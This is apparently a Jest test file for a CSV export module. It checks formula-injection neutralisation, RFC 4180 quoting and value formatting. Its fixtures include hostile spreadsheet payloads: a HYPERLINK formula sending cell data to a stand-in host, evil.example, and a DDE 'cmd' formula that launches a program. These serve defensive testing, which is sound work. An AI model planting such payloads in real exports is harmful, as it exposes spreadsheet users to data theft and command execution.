/** @jest-environment node */
import { csvCell, toCsv } from '@/lib/server/csv';
import { tableCsv } from '@/lib/server/services/dataExplorer';
import type { DataTableModel } from '@/lib/shared/schemas/dataExplorer';

describe('csvCell: formula injection (OWASP) is neutralised', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', `'=HYPERLINK("http://evil.example/?d="&A1,"Click")`],
    ['+1+cmd|" /C calc"!A0', `'+1+cmd|" /C calc"!A0`],
    ['-2+3', "'-2+3"],
    ['- 1', "'- 1"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['\n=1+1', "'\n=1+1"],
    ['＝1+1', "'＝1+1"],
    ['＠SUM(A1)', "'＠SUM(A1)"],
    ['-', "'-"],
    ['+', "'+"],
  ])('%j → %j', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it('leaves a cell that is entirely a plain number alone, as text or as a number (numeric columns stay numbers)', () => {
    for (const n of ['-3.5', '+2', '-0.25', '-.5', '-1.2e3', '-77.4338', '12']) expect(csvCell(n)).toBe(n);
    expect(csvCell(-3.5)).toBe(-3.5);
    expect(csvCell(0)).toBe(0);
  });

  it('leaves ordinary text alone, even with = + - @ inside; empties null; yes/no for booleans', () => {
    expect(csvCell('Route 1 = bad, -2 lanes @ 5pm')).toBe('Route 1 = bad, -2 lanes @ 5pm');
    expect(csvCell("'=already quoted")).toBe("'=already quoted");
    expect(csvCell(' =1+1')).toBe(' =1+1');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(true)).toBe('yes');
    expect(csvCell(false)).toBe('no');
    expect(csvCell(new Date('2026-01-02T03:04:05Z'))).toBe('2026-01-02T03:04:05.000Z');
  });
});

describe('toCsv', () => {
  it('quotes commas, quotes and line breaks (RFC 4180), keeps unicode, and neutralises each cell', () => {
    const csv = toCsv(
      [
        ['name', 'value'],
        ['a,b', 1],
        ['say "hi"', -2.5],
        ['x\ny', null],
        ['Café ✓', true],
        ['=1+1', '-4'],
      ],
      { bom: false },
    );
    expect(csv).toBe('name,value\n"a,b",1\n"say ""hi""",-2.5\n"x\ny",\nCafé ✓,yes\n\'=1+1,-4\n');
  });

  it('starts with a byte-order mark unless asked not to; CRLF on request', () => {
    expect(toCsv([['a']])).toBe('\uFEFFa\n');
    expect(toCsv([['a'], ['b']], { bom: false, eol: '\r\n' })).toBe('a\r\nb\r\n');
  });
});

describe('Data Explorer tables as CSV', () => {
  const table: DataTableModel = {
    id: 't',
    caption: 'Test, "quoted"',
    columns: [
      { key: 'name', label: 'Name', numeric: false, unit: null },
      { key: 'value', label: 'Weight', numeric: true, unit: 'thousand tons' },
    ],
    rows: [
      { name: 'Gravel, sand', value: 1234.5 },
      { name: 'Say "hi"', value: 2 },
      { name: 'Café – Montréal ✓', value: null },
      { name: 'Two\nlines', value: 0 },
      { name: '=cmd', value: -3 },
    ],
  };

  it('writes a header with units and one CRLF line per row with raw numbers', () => {
    expect(tableCsv(table)).toBe(
      'Name,Weight (thousand tons)\r\n"Gravel, sand",1234.5\r\n"Say ""hi""",2\r\nCafé – Montréal ✓,\r\n"Two\nlines",0\r\n\'=cmd,-3\r\n',
    );
  });
});
